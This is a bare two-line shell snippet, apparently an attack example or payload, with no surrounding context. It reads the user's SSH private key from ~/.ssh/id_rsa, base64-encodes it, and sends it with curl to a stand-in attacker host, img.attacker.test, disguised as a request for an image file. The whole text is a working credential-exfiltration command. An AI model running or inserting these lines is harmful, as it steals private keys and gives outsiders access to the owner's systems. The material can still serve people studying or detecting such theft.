d=$(cat ~/.ssh/id_rsa | base64 -w0)
curl "https://img.attacker.test/p.png?d=$d"
